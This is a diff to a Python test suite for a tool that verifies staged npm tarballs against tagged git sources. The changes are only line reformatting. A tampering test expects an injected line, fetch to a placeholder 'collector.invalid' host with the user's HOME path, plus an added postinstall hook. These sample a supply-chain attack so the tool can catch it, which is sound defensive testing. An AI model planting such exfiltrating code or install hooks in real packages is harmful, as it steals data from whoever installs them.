@@ -21,8 +21,14 @@ pytestmark = [pytest.mark.registry, pytest.mark.npm]
 
 def git(repo: Path, *args: str) -> str:
     env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
-    env.update(GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.invalid", GIT_COMMITTER_NAME="t",
-               GIT_COMMITTER_EMAIL="t@example.invalid", GIT_CONFIG_NOSYSTEM="1", HOME=str(repo.parent))
+    env.update(
+        GIT_AUTHOR_NAME="t",
+        GIT_AUTHOR_EMAIL="t@example.invalid",
+        GIT_COMMITTER_NAME="t",
+        GIT_COMMITTER_EMAIL="t@example.invalid",
+        GIT_CONFIG_NOSYSTEM="1",
+        HOME=str(repo.parent),
+    )
     proc = subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, text=True, check=True)
     return proc.stdout.strip()
 
@@ -51,7 +57,12 @@ def test_a_tag_staged_by_lpm_and_by_npm_verifies_identical(published: Any, verda
     assert run.code == 0, run.text
     data = run.json()["data"]
     assert data["verdict"] == "identical" and data["passed"] is True and data["differences"] == []
-    assert data["source"] == {"path": str(project.resolve()), "ref": "v1.1.0", "commit": commit, "dirty": False}
+    assert data["source"] == {
+        "path": str(project.resolve()),
+        "ref": "v1.1.0",
+        "commit": commit,
+        "dirty": False,
+    }
     assert git(project, "worktree", "list").count("\n") == 0, "the temporary worktree is gone"
 
     published.set_version("1.2.0")
@@ -66,7 +77,9 @@ def test_a_tag_staged_by_lpm_and_by_npm_verifies_identical(published: Any, verda
     assert "tarball: identical to the source" in text.out and "Verification PASSED" in text.out
 
 
-def test_a_tampered_tree_is_refused_with_each_difference_named(published: Any, verdaccio: Any, lpm: Any) -> None:
+def test_a_tampered_tree_is_refused_with_each_difference_named(
+    published: Any, verdaccio: Any, lpm: Any
+) -> None:
     project = published.dir
     commit_and_tag(project, "v1.1.0")
     index = project / "lib" / "index.js"
@@ -80,8 +93,12 @@ def test_a_tampered_tree_is_refused_with_each_difference_named(published: Any, v
     assert run.code == 1, run.text
     doc = run.json()
     assert doc["success"] is False and doc["error_code"] == "verification_failed"
-    for named in ("lib/extra.js: only in the staged tarball", "lib/index.d.ts: mode 0644 -> 0755 differs",
-                  "lib/index.js: content differs", "package.json: content differs"):
+    for named in (
+        "lib/extra.js: only in the staged tarball",
+        "lib/index.d.ts: mode 0644 -> 0755 differs",
+        "lib/index.js: content differs",
+        "package.json: content differs",
+    ):
         assert named in doc["error"]
     differences = {d["path"]: d for d in doc["data"]["differences"]}
     assert set(differences) == {"lib/index.js", "lib/extra.js", "lib/index.d.ts", "package.json"}
@@ -89,8 +106,10 @@ def test_a_tampered_tree_is_refused_with_each_difference_named(published: Any, v
     assert differences["lib/index.js"]["aspects"] == ["content"]
     assert "+fetch('https://collector.invalid/' + process.env.HOME)" in differences["lib/index.js"]["diff"]
     assert differences["lib/index.d.ts"]["aspects"] == ["mode"]
-    assert (differences["lib/index.d.ts"]["source"]["mode"], differences["lib/index.d.ts"]["staged"]["mode"]) == (
-        "0644", "0755")
+    assert (
+        differences["lib/index.d.ts"]["source"]["mode"],
+        differences["lib/index.d.ts"]["staged"]["mode"],
+    ) == ("0644", "0755")
     assert '"postinstall": "node lib/extra.js"' in differences["package.json"]["diff"]
     assert doc["data"]["explainedByBuild"] == []
 
@@ -116,7 +135,9 @@ def test_a_secret_in_a_differing_line_is_withheld(published: Any, verdaccio: Any
     assert "[line withheld: possible secret" in difference["diff"]
 
 
-def test_a_deterministic_build_step_verifies_only_when_allowed(published: Any, verdaccio: Any, lpm: Any) -> None:
+def test_a_deterministic_build_step_verifies_only_when_allowed(
+    published: Any, verdaccio: Any, lpm: Any
+) -> None:
     project = published.dir
     (project / "build.mjs").write_text(
         "import { mkdirSync, writeFileSync } from 'node:fs'\n"
@@ -153,9 +174,13 @@ def test_bad_input_is_one_line(published: Any, verdaccio: Any, lpm: Any) -> None
         assert message in run.err and "Traceback" not in run.text
 
 
-def test_a_build_command_from_releasekit_yaml(published: Any, verdaccio: Any, lpm: Any, tmp_path: Path) -> None:
+def test_a_build_command_from_releasekit_yaml(
+    published: Any, verdaccio: Any, lpm: Any, tmp_path: Path
+) -> None:
     project = published.dir
-    (project / "releasekit.yaml").write_text("verify:\n  build: node -e \"require('fs').writeFileSync('lib/v.js', '1')\"\n")
+    (project / "releasekit.yaml").write_text(
+        "verify:\n  build: node -e \"require('fs').writeFileSync('lib/v.js', '1')\"\n"
+    )
     (project / "lib" / "v.js").write_text("1")
     commit_and_tag(project, "v1.1.0")
     stage_id = stage(lpm, verdaccio.url)
@@ -167,8 +192,12 @@ def test_a_build_command_from_releasekit_yaml(published: Any, verdaccio: Any, lp
 
 
 def approve_requests(verdaccio: Any, stage_id: str) -> int:
-    return sum(1 for line in verdaccio.log_lines()
-               if line.get("req", {}).get("method") == "POST" and f"/-/stage/{stage_id}/approve" in line["req"].get("url", ""))
+    return sum(
+        1
+        for line in verdaccio.log_lines()
+        if line.get("req", {}).get("method") == "POST"
+        and f"/-/stage/{stage_id}/approve" in line["req"].get("url", "")
+    )
 
 
 def test_approve_verifies_before_the_otp_and_skip_verify_says_what_it_skipped(
@@ -196,7 +225,9 @@ def test_approve_verifies_before_the_otp_and_skip_verify_says_what_it_skipped(
 
     run = lpm("stage", "approve", tampered, "--skip-verify", "--json", "--npm-registry", verdaccio.url)
     assert run.code == 0, run.text
-    assert "WARNING: --skip-verify: the staged tarball was NOT compared with the source at v{version}" in run.err
+    assert (
+        "WARNING: --skip-verify: the staged tarball was NOT compared with the source at v{version}" in run.err
+    )
     assert run.json()["data"]["verificationSkipped"] is True and approve_requests(verdaccio, tampered) == 1
 
     published.set_version("1.2.0")
@@ -208,7 +239,9 @@ def test_approve_verifies_before_the_otp_and_skip_verify_says_what_it_skipped(
     assert verification["verdict"] == "identical" and verification["source"]["ref"] == "v1.2.0"
 
 
-def test_a_non_deterministic_build_is_named_as_a_possible_explanation(published: Any, verdaccio: Any, lpm: Any) -> None:
+def test_a_non_deterministic_build_is_named_as_a_possible_explanation(
+    published: Any, verdaccio: Any, lpm: Any
+) -> None:
     project = published.dir
     (project / "stamp.mjs").write_text(
         "import { mkdirSync, writeFileSync } from 'node:fs'\n"
@@ -249,7 +282,9 @@ def test_a_workspace_member_staged_by_npm_from_inside_it_verifies(
     root = tmp_path / "ws"
     member = root / "packages" / "a"
     member.mkdir(parents=True)
-    (root / "package.json").write_text(json.dumps({"name": "ws-root", "private": True, "workspaces": ["packages/*"]}))
+    (root / "package.json").write_text(
+        json.dumps({"name": "ws-root", "private": True, "workspaces": ["packages/*"]})
+    )
     (root / ".gitignore").write_text("*.local\n")
     (root / "packages" / ".npmignore").write_text("*.log\n")
     name = unique_name("rk-ws-member")
